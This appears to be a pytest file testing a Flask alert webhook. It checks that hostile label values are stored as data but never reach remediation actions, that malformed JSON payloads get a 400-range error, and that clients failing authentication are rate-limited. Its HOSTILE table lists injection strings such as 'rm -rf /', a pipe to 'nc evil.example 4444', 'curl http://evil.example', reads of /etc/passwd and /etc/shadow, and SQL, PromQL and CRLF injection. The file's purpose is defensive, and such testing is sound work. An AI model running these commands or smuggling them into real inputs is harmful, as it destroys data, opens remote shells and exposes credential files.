"""Hostile input through the real HTTP layer (Flask test client): hostile label values are data, recorded but
never passed to an action; malformed payloads get a 4xx with the one JSON error shape, never a 5xx; a client that
keeps failing authentication is slowed down without ever limiting an authenticated Alertmanager.

Every step of the playbook is whitelisted and the re-check answers, so anything that got through would be run:
the fake actions record each call.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from flask import Flask

from app.config import Settings
from app.web.auth import LIMITER_KEY, AuthFailureLimiter
from tests.fakes import FakeSample
from tests.payloads import alert, body, ingest_inbox, payload, xid
from tests.unit.test_engine import GRANTS, PLAYBOOK
from tests.unit.test_webhook import VIEWER, make_app, reader_client

TOKEN = "hostile-input-webhook-token"
# Actions whose parameters name things (patterned); fake.notice is free text for humans, like a chat message.
NAMING_ACTIONS = ("fake.drain", "fake.requeue", "fake.resume", "fake.logs")

HOSTILE = {
    "semicolon": "node1; rm -rf /",
    "substitution": "$(reboot)",
    "backticks": "`id`",
    "pipe": "node1|nc evil.example 4444",
    "redirect": "node1>/etc/passwd",
    "and": "node1 && curl http://evil.example",
    "option": "--help",
    "glob": "node*",
    "quote": "node1' OR '1'='1",
    "traversal": "../../etc/passwd",
    "absolute": "/etc/shadow",
    "newline": "node1\nrm -rf /",
    "crlf": "node1\r\nX-Injected: 1",
    "nul": "node1\x00evil",
    "tab": "node1\tx",
    "huge": "n" * 4096,  # the parser's limit: accepted as data, refused by every pattern
    "unicode": "nöde-ünïcödé",
    "rtl_override": "node1\u202egnp.exe",
    "zero_width": "node\u200b1",
    "homoglyph": "nod\u04351",  # Cyrillic e
    "emoji": "node\U0001f525",
    "promql": '"} or vector(1) or {a="',
    "format": "%s%n%x{0}",
}


def refused_by_parser(value: str) -> bool:
    """NUL: no label source emits it and PostgreSQL cannot store it, so the payload parser refuses it (400)."""
    return "\x00" in value


def build_app(tmp_path: Path, *, store_url: str | None = None, **webhook: Any) -> Flask:
    """The real app (fake actions, fake clock, Prometheus answering every re-check), every step whitelisted."""
    (tmp_path / "playbooks").mkdir()
    (tmp_path / "playbooks" / "gpu.yaml").write_text(PLAYBOOK)
    grants = "".join(f"  - action: {name}\n" for name in GRANTS)
    (tmp_path / "permissions.yaml").write_text(
        f"apiVersion: nightshift/v1\nkind: Permissions\nallow:\n{grants}"
    )
    (tmp_path / "token").write_text(TOKEN)
    settings = Settings(
        data_dir=str(tmp_path / "var"),
        playbook_paths=[str(tmp_path / "playbooks")],
        permissions_file=str(tmp_path / "permissions.yaml"),
        store_url=store_url,
    )
    settings.webhook.token_file = str(tmp_path / "token")
    (tmp_path / "viewer").write_text(VIEWER)
    settings.access.viewer_token_file = str(tmp_path / "viewer")
    for key, value in webhook.items():
        setattr(settings.webhook, key, value)
    app = make_app(settings)
    app.extensions["nightshift"].engine.deps.clients.prometheus.default = [FakeSample({}, 1.0)]
    return app


def headers(token: str = TOKEN) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}", "Content-Type": "application/json"}


def calls(app: Flask, action: str) -> list[dict[str, Any]]:
    return app.extensions["nightshift"].engine.deps.registry.get(action).script.calls


def ledger_kinds(app: Flask) -> list[str]:
    from app.store import records

    with app.extensions["nightshift"].store.transaction() as conn:
        return [row["kind"] for row in records.iter_ledger(conn)]


@pytest.fixture
def app(tmp_path) -> Flask:
    return build_app(tmp_path)


def assert_json_error(response: Any, status: int | None = None) -> None:
    assert 400 <= response.status_code < 500, (response.status_code, response.get_data(as_text=True)[:300])
    if status is not None:
        assert response.status_code == status, response.json
    assert response.json["status"] == "error" and response.json["message"]


# --- hostile label values --------------------------------------------------------------------------------


@pytest.mark.parametrize("label", ["Hostname", "slurm_job_id"])
@pytest.mark.parametrize("value", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_target_label_is_recorded_but_opens_no_incident_and_runs_nothing(app, label, value):
    client = reader_client(app)
    response = client.post("/api/v1/alerts", data=body(alert({**xid(), label: value})), headers=headers())
    if refused_by_parser(value):
        assert_json_error(response, 400)
        assert f"alerts[0].labels.{label}" in response.json["message"]
    else:
        assert response.status_code == 200, response.json
        assert response.json["alerts"] == 1
        assert ingest_inbox(app).opened == []
        assert "target_invalid" in ledger_kinds(app)
    app.extensions["nightshift"].engine.run_until_idle()
    for action in (*NAMING_ACTIONS, "fake.notice"):
        assert calls(app, action) == [], action


@pytest.mark.parametrize("value", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_free_labels_and_annotations_never_reach_a_naming_action(app, value):
    client = reader_client(app)
    hostile = alert({**xid(), "gpu": value, "pod": value}, annotations={"summary": value, "runbook": value})
    response = client.post("/api/v1/alerts", data=body(hostile), headers=headers())
    if refused_by_parser(value):
        assert_json_error(response, 400)
        return
    assert response.status_code == 200, response.json
    (incident_id,) = ingest_inbox(app).opened
    app.extensions["nightshift"].engine.run_until_idle()
    detail = client.get(f"/api/v1/incidents/{incident_id}").json
    if detail["incident"]["state"] == "needs_human":
        # Fail closed: a rendered step value broke its schema (the diagnosis quotes the 4096-character label
        # into the notice text, over its limit), so no step of the plan ran.
        assert "step_invalid" in [row["kind"] for row in detail["ledger"]] and value == HOSTILE["huge"]
        assert calls(app, "fake.drain") == [] and calls(app, "fake.requeue") == []
    else:
        # The incident acted on the sound target, with values that passed their patterns.
        assert detail["incident"]["state"] == "verifying"
        assert calls(app, "fake.drain") == [{"node": "node1", "reason": "Xid 79"}]
        assert calls(app, "fake.requeue") == [{"job": "1234"}]
    for action in NAMING_ACTIONS:
        assert all(value not in str(params) for params in calls(app, action))
    assert detail["alerts"][0]["labels"]["gpu"] == value  # data, kept as sent


def test_hostile_label_names_are_refused_with_the_field_named(app):
    client = reader_client(app)
    for name in ("bad-name", "1abc", "a b", "x;rm", "../x", "ünï", ""):
        response = client.post("/api/v1/alerts", data=body(alert({**xid(), name: "v"})), headers=headers())
        assert_json_error(response, 400)
        assert "alerts[0].labels" in response.json["message"]


def test_label_value_over_the_limit_is_refused(app):
    response = reader_client(app).post(
        "/api/v1/alerts", data=body(alert({**xid(), "gpu": "x" * 4097})), headers=headers()
    )
    assert_json_error(response, 400)
    assert "alerts[0].labels.gpu" in response.json["message"] and "4096" in response.json["message"]


# --- malformed payloads ------------------------------------------------------------------------------------


def _doc(**alert_fields: Any) -> bytes:
    base = {"status": "firing", "labels": {"alertname": "GpuXidError"}, "startsAt": "2026-12-02T03:00:00Z"}
    return json.dumps({"version": "4", "alerts": [{**base, **alert_fields}]}).encode()


MALFORMED: dict[str, tuple[bytes, str]] = {
    "empty": (b"", "invalid JSON"),
    "not_json": (b"{not json", "invalid JSON"),
    "not_utf8": (b'{"version": "4", "alerts": ["\xff\xfe"]}', "UTF-8"),
    "nan": (b'{"version": "4", "alerts": [NaN]}', "NaN"),
    "huge_integer": (
        b'{"version": "4", "alerts": [], "truncatedAlerts": ' + b"9" * 5000 + b"}",
        "invalid JSON",
    ),
    "deep_array": (b"[" * 100_000 + b"]" * 100_000, "nesting deeper"),
    "deep_object": (b'{"a":' * 5000 + b"1" + b"}" * 5000, "nesting deeper"),
    "deep_in_labels": (_doc(labels={"alertname": "X", "a": [[[[[[[[["x"]]]]]]]]]}), "nesting deeper"),
    "top_array": (b"[1, 2]", "top level: expected an object"),
    "top_string": (b'"alerts"', "top level"),
    "top_null": (b"null", "top level"),
    "no_version": (b'{"alerts": []}', "version: missing"),
    "version_number": (b'{"version": 4, "alerts": []}', "version: expected a string"),
    "version_3": (b'{"version": "3", "alerts": []}', "unsupported payload version"),
    "alerts_object": (b'{"version": "4", "alerts": {}}', "alerts: expected an array"),
    "alerts_empty": (b'{"version": "4", "alerts": []}', "alerts: empty"),
    "alert_number": (b'{"version": "4", "alerts": [1]}', "alerts[0]: expected an object"),
    "labels_array": (_doc(labels=["alertname"]), "alerts[0].labels: expected an object"),
    "label_number": (_doc(labels={"alertname": "X", "gpu": 3}), "alerts[0].labels.gpu: expected a string"),
    "label_null": (_doc(labels={"alertname": "X", "gpu": None}), "alerts[0].labels.gpu"),
    "no_alertname": (_doc(labels={"gpu": "3"}), "alertname"),
    "status_bogus": (_doc(status="burning"), "alerts[0].status"),
    "starts_number": (_doc(startsAt=1700000000), "alerts[0].startsAt: expected a string"),
    "starts_words": (_doc(startsAt="yesterday"), "alerts[0].startsAt"),
    "starts_month_13": (_doc(startsAt="2026-13-01T00:00:00Z"), "alerts[0].startsAt"),
    "ends_object": (_doc(endsAt={}), "alerts[0].endsAt"),
    "fingerprint_bad": (_doc(fingerprint="../../etc/passwd"), "alerts[0].fingerprint"),
    "annotations_array": (_doc(annotations=[]), "alerts[0].annotations"),
    "generator_number": (_doc(generatorURL=5), "generatorURL"),
    "truncated_negative": (
        json.dumps(
            {"version": "4", "alerts": [json.loads(_doc())["alerts"][0]], "truncatedAlerts": -1}
        ).encode(),
        "truncatedAlerts",
    ),
    "too_many_alerts": (
        json.dumps({"version": "4", "alerts": [json.loads(_doc())["alerts"][0]] * 1001}).encode(),
        "exceed the limit of 1000",
    ),
    "too_many_labels": (
        _doc(labels={"alertname": "X", **{f"l{i}": "v" for i in range(200)}}),
        "exceed the limit of 200",
    ),
}


@pytest.mark.parametrize(("data", "message"), MALFORMED.values(), ids=MALFORMED.keys())
def test_malformed_payload_is_a_clear_4xx(app, data, message):
    response = reader_client(app).post("/api/v1/alerts", data=data, headers=headers())
    assert_json_error(response, 400)
    assert message in response.json["message"]
    app.extensions["nightshift"].engine.run_until_idle()
    assert app.extensions["nightshift"].engine.incidents() == []
    assert all(calls(app, action) == [] for action in NAMING_ACTIONS)


def test_every_truncation_of_a_valid_payload_is_a_400(app):
    client = reader_client(app)
    valid = body(alert(xid()), alert(xid(gpu="5")))
    for cut in range(0, len(valid) - 1, 7):
        response = client.post("/api/v1/alerts", data=valid[:cut], headers=headers())
        assert_json_error(response, 400)
    assert client.post("/api/v1/alerts", data=valid, headers=headers()).status_code == 200


def test_oversized_body_is_413_and_wrong_content_type_is_415(tmp_path):
    app = build_app(tmp_path, max_body_bytes=16 * 1024)
    client = reader_client(app)
    huge = json.dumps(payload(*[alert(xid(gpu=str(n))) for n in range(200)])).encode()
    assert_json_error(client.post("/api/v1/alerts", data=huge, headers=headers()), 413)
    text = headers() | {"Content-Type": "text/plain"}
    assert_json_error(client.post("/api/v1/alerts", data=body(alert(xid())), headers=text), 415)
    assert app.extensions["nightshift"].engine.incidents() == []


# --- authentication failures -------------------------------------------------------------------------------


def test_a_client_failing_authentication_is_limited_and_an_authenticated_one_never(tmp_path):
    app = build_app(tmp_path, auth_failure_burst=3, auth_failures_per_minute=1.0)
    client = reader_client(app)
    guesser = {"REMOTE_ADDR": "203.0.113.9"}
    alertmanager = {"REMOTE_ADDR": "10.0.0.5"}
    data = body(alert(xid()))
    for _ in range(3):
        response = client.post("/api/v1/alerts", data=data, headers=headers("guess"), environ_base=guesser)
        assert_json_error(response, 401)
    limited = client.post("/api/v1/alerts", data=data, headers=headers("guess"), environ_base=guesser)
    assert_json_error(limited, 429)
    assert 1 <= int(limited.headers["Retry-After"]) <= 60
    # Valid credentials are checked first: the right token passes even from the limited address...
    assert (
        client.post("/api/v1/alerts", data=data, headers=headers(), environ_base=guesser).status_code == 200
    )
    # ...and Alertmanager, authenticating from its own address, is never limited, however much it sends.
    for _ in range(20):
        ok = client.post("/api/v1/alerts", data=data, headers=headers(), environ_base=alertmanager)
        assert ok.status_code == 200
    metrics = client.get("/metrics").get_data(as_text=True)
    assert 'nightshift_webhook_requests_total{code="429"} 1.0' in metrics


def test_auth_failure_bucket_refills_and_forgets_old_addresses():
    now = [0.0]
    limiter = AuthFailureLimiter(2, 6.0, clock=lambda: now[0], max_clients=3)
    for _ in range(2):
        assert limiter.retry_after("a") == 0
        limiter.failed("a")
    assert limiter.retry_after("a") == pytest.approx(10.0)  # 6 a minute: one token every 10 s
    now[0] += 9.9
    assert limiter.retry_after("a") == pytest.approx(0.1)
    now[0] += 0.1
    assert limiter.retry_after("a") == 0
    limiter.failed("a")
    for other in ("b", "c", "d"):  # three newer addresses push "a" out: it starts again with a full bucket
        limiter.failed(other)
    assert limiter.retry_after("a") == 0 and limiter.retry_after("d") == 0
    assert AuthFailureLimiter(0, 6.0).retry_after("a") == 0  # burst 0: disabled


def test_limiter_is_built_per_app_from_settings(tmp_path):
    app = build_app(tmp_path, auth_failure_burst=7)
    limiter = app.extensions[LIMITER_KEY]
    assert isinstance(limiter, AuthFailureLimiter) and limiter.burst == 7
